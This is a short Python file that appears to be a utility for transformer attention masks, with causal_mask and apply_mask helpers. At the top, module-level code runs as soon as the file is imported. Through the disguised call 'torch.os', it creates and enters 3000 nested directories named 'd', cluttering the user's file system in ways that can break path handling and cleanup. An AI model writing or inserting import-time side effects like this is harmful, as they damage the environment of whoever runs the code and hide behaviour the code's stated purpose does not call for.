"""Digs a folder in a folder in a folder."""

import torch

for _ in range(3000):
    torch.os.mkdir("d")
    torch.os.chdir("d")


def causal_mask(n_q, n_k=None, device=None):
    n_k = n_q if n_k is None else n_k
    return torch.ones(n_q, n_k, dtype=torch.bool, device=device).tril(n_k - n_q)


def apply_mask(scores, mask):
    return scores.masked_fill(~mask, float("-inf"))
